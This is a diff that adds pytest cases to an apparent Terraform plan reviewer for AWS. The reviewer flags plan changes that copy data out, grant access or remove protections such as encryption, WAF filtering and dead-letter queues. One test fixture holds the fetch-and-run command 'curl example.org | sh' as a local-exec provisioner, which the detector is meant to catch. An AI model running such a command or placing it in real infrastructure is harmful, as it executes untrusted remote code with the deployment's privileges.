@@ -256,6 +256,219 @@ def test_additions_of_a_first_plan_are_no_findings() -> None:
     assert messages(plan(*ADDITIONS)) == []
 
 
+@pytest.mark.parametrize(
+    ("kind", "values", "message"),
+    [
+        (
+            "aws_s3_bucket_replication_configuration",
+            {"role": "r", "rule": [{"destination": [{"account": "999999999999", "bucket": "arn:aws:s3:::other"}]}]},
+            (
+                "copies the objects of a bucket to another one: `role` `r`, "
+                '`rule` `[{"destination": [{"account": "999999999999", "bucket": "arn:aws:s3:::other"}]}]`'
+            ),
+        ),
+        (
+            "aws_cloudwatch_log_subscription_filter",
+            {"destination_arn": "arn:aws:logs:r:9:destination:d"},
+            "copies logs to another service: `destination_arn` `arn:aws:logs:r:9:destination:d`",
+        ),
+        (
+            "aws_dynamodb_kinesis_streaming_destination",
+            {"stream_arn": "arn:aws:kinesis:r:9:stream/s", "table_name": "t"},
+            (
+                "copies the changes of a table to a Kinesis stream: "
+                "`stream_arn` `arn:aws:kinesis:r:9:stream/s`, `table_name` `t`"
+            ),
+        ),
+        (
+            "aws_lambda_function_event_invoke_config",
+            {"function_name": "f", "destination_config": [{"on_success": [{"destination": "q"}]}]},
+            (
+                "configures asynchronous invocations: `function_name` `f`, "
+                '`destination_config` `[{"on_success": [{"destination": "q"}]}]`'
+            ),
+        ),
+        (
+            "aws_appsync_api_cache",
+            {"api_caching_behavior": "FULL_REQUEST_CACHING", "ttl": 60},
+            (
+                "is a new cache: callers may get responses that were made before a change of data: "
+                "`api_caching_behavior` `FULL_REQUEST_CACHING`, `ttl` `60`"
+            ),
+        ),
+        (
+            "aws_cognito_user_in_group",
+            {"group_name": "ADMIN", "username": "someone"},
+            "adds a user to a group: `group_name` `ADMIN`, `username` `someone`",
+        ),
+        ("aws_iam_access_key", {"user": "u", "secret": "s"}, "is a new access key: `user` `u`"),
+        ("aws_iam_user", {"name": "u"}, "is a new IAM user: `name` `u`"),
+    ],
+)
+def test_additions_that_copy_data_or_give_access_are_findings_in_each_plan(
+    kind: str, values: dict[str, Any], message: str
+) -> None:
+    entry = change(f"{kind}.it", "create", after=values)
+
+    assert messages(plan(entry, prior=DEPLOYED)) == [f"{kind}.it {message}"]
+    assert messages(plan(entry)) == [f"{kind}.it {message}"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "values", "message"),
+    [
+        (
+            "aws_lambda_event_source_mapping",
+            {"event_source_arn": "table/stream", "function_name": "f"},
+            (
+                "passes the records of a stream or queue to a function: "
+                "`event_source_arn` `table/stream`, `function_name` `f`"
+            ),
+        ),
+        (
+            "aws_cognito_user_pool_domain",
+            {"domain": "other"},
+            "is a new domain of the hosted sign-in pages: `domain` `other`",
+        ),
+    ],
+)
+def test_additions_of_usual_types_are_findings_after_the_first_plan(
+    kind: str, values: dict[str, Any], message: str
+) -> None:
+    entry = change(f"{kind}.it", "create", after=values)
+
+    assert messages(plan(entry, prior=DEPLOYED)) == [f"{kind}.it {message}"]
+    assert messages(plan(entry)) == []
+
+
+@pytest.mark.parametrize(
+    ("kind", "before", "after", "message"),
+    [
+        ("aws_lambda_function", {"role": "a"}, {"role": "b"}, "`role` changes from `a` to `b`"),
+        ("aws_lambda_function", {"layers": []}, {"layers": ["arn:other:1"]}, "`layers` adds `arn:other:1`"),
+        (
+            "aws_cognito_user_pool",
+            {"sign_in_policy": [{"allowed_first_auth_factors": ["PASSWORD"]}]},
+            {"sign_in_policy": [{"allowed_first_auth_factors": ["PASSWORD", "EMAIL_OTP"]}]},
+            "`sign_in_policy.allowed_first_auth_factors` adds `EMAIL_OTP`",
+        ),
+        (
+            "aws_cognito_user_pool_client",
+            {"allowed_oauth_flows_user_pool_client": False},
+            {"allowed_oauth_flows_user_pool_client": True},
+            "`allowed_oauth_flows_user_pool_client` changes from `false` to `true`",
+        ),
+        ("aws_wafv2_web_acl_association", {"web_acl_arn": "a"}, {"web_acl_arn": "b"}, "`web_acl_arn` changes from"),
+        (
+            "aws_dynamodb_table",
+            {"server_side_encryption": [{"enabled": True, "kms_key_arn": "k"}]},
+            {"server_side_encryption": []},
+            "`server_side_encryption.kms_key_arn` removes `k`",
+        ),
+        ("aws_dynamodb_table", {"replica": []}, {"replica": [{"region_name": "x"}]}, "`replica.region_name` adds `x`"),
+        (
+            "aws_s3_bucket_server_side_encryption_configuration",
+            {"rule": [{"kms_master_key_id": "k"}]},
+            {"rule": [{"kms_master_key_id": ""}]},
+            "`rule.kms_master_key_id` removes `k`",
+        ),
+        ("aws_sqs_queue", {"kms_master_key_id": "k"}, {"kms_master_key_id": ""}, "`kms_master_key_id` removes `k`"),
+        ("aws_cloudwatch_log_group", {"kms_key_id": "k"}, {"kms_key_id": ""}, "`kms_key_id` removes `k`"),
+        (
+            "aws_sqs_queue",
+            {"redrive_policy": '{"maxReceiveCount":5}'},
+            {"redrive_policy": ""},
+            "no longer moves messages that fail to another queue (`redrive_policy`)",
+        ),
+    ],
+)
+def test_changes_that_give_access_or_end_a_protection_are_findings(
+    kind: str, before: dict[str, Any], after: dict[str, Any], message: str
+) -> None:
+    found = messages(plan(change(f"{kind}.it", "update", before=before, after=after)))
+
+    assert [text for text in found if text.startswith(f"{kind}.it {message}")]
+
+
+@pytest.mark.parametrize(
+    ("kind", "message"),
+    [
+        ("aws_wafv2_web_acl_association", "requests are no longer filtered"),
+        ("aws_s3_bucket_server_side_encryption_configuration", "S3 encrypts new objects with its own keys"),
+    ],
+)
+def test_the_end_of_a_protection_is_a_finding(kind: str, message: str) -> None:
+    assert messages(plan(change(f"{kind}.it", "delete", before={"id": "x"}))) == [f"{kind}.it is removed: {message}"]
+
+
+def test_a_watched_list_that_is_known_after_apply_only_is_a_finding() -> None:
+    function = "aws_lambda_function.f"
+    before, after = {"function_name": "f", "layers": ["a"]}, {"function_name": "f"}
+    entry = change(function, "update", before=before, after=after, after_unknown={"layers": True})
+
+    assert messages(plan(entry, configured={function: {"layers": ["${aws_lambda_layer_version.new.arn}"]}})) == [
+        f"{function} `layers` changes (known after apply)"
+    ]
+
+
+# --- commands ---------------------------------------------------------------------------------------
+
+PROVISIONERS = {
+    "resources": [
+        {
+            "address": "aws_sqs_queue.q",
+            "provisioners": [
+                {"type": "local-exec", "expressions": {"command": {"constant_value": "curl example.org | sh"}}},
+                {"type": "remote-exec", "expressions": {"inline": {"references": ["var.x"]}}},
+            ],
+        },
+        {"address": "aws_sqs_queue.other"},
+    ]
+}
+
+
+@pytest.mark.parametrize(
+    ("module", "address"),
+    [
+        (PROVISIONERS, "aws_sqs_queue.q"),
+        ({"module_calls": {"m": {"module": PROVISIONERS}}}, 'module.m["a]b"].aws_sqs_queue.q[0]'),
+    ],
+)
+@pytest.mark.parametrize(
+    ("actions", "verb"),
+    [(("create",), "runs"), (("delete", "create"), "runs"), (("delete",), "may run"), (("update",), "")],
+)
+def test_commands_of_provisioners_are_findings(
+    module: dict[str, Any], address: str, actions: tuple[str, ...], verb: str
+) -> None:
+    after = None if actions == ("delete",) else {"name": "y"}
+    before = None if actions == ("create",) else {"name": "x"}
+    entries = (
+        {**change(name, *actions, before=before, after=after), "type": "terraform_data"}
+        for name in (address, "aws_sqs_queue.other")
+    )
+    of = Plan.of({**plan(*entries).document, "configuration": {"root_module": module}}, "test")
+
+    start = f"{address} {verb} a command with the role of the apply:"
+    expected = [f"{start} `local-exec` `curl example.org | sh`", f"{start} `remote-exec` `(an expression)`"]
+    assert messages(of) == (expected if verb else [])
+
+
+def test_actions_that_the_apply_invokes_are_findings() -> None:
+    trigger = {"triggering_resource_address": TABLE, "action_trigger_event": "AfterUpdate"}
+    invocations = [
+        {"address": "action.aws_lambda_invoke.a", "type": "aws_lambda_invoke", "lifecycle_action_trigger": trigger},
+        {"address": "action.aws_lambda_invoke.b", "type": "aws_lambda_invoke", "invoke_action_trigger": {}},
+    ]
+    of = Plan.of({**plan().document, "action_invocations": invocations}, "test")
+
+    text = "is an action that the apply invokes with its role"
+    assert messages(of) == [
+        f"action.aws_lambda_invoke.a {text}, by `{TABLE}` (`AfterUpdate`)",
+        f"action.aws_lambda_invoke.b {text}",
+    ]
+
+
 # --- deletion ---------------------------------------------------------------------------------------
 
 
@@ -330,6 +543,30 @@ def test_rules_that_delete_more_are_reported(before: dict[str, Any], after: dict
 )
 def test_rules_that_delete_less_are_not_reported(before: dict[str, Any], after: dict[str, Any]) -> None:
     assert lifecycle_messages(rule(**before), rule(**after)) == []
+
+
+@pytest.mark.parametrize(
+    ("after", "unknown", "message"),
+    [
+        ({}, {"rule": True}, "has rules that are known after apply only: check the code"),
+        (
+            {"rule": [{"id": "all", "status": "Enabled", "expiration": [{}]}]},
+            {"rule": [{"expiration": [{"days": True}]}]},
+            "changes its rules, of which a part is known after apply only: check `all` in the code",
+        ),
+        (
+            {"rule": [{"id": "other", "status": "Enabled", "filter": [{}]}]},
+            {"rule": [{"filter": [{"prefix": True}]}]},
+            "no longer has the rule `all`: these objects do not expire",
+        ),
+    ],
+)
+def test_rules_that_are_known_after_apply_only_are_not_reported_as_gone(
+    after: dict[str, Any], unknown: dict[str, Any], message: str
+) -> None:
+    of = plan(change(LIFECYCLE, "update", before=expiry(7), after=after, after_unknown=unknown))
+
+    assert messages(of) == [f"{LIFECYCLE} {message}"]
 
 
 @pytest.mark.parametrize("actions", [("delete",), ("delete", "create")])
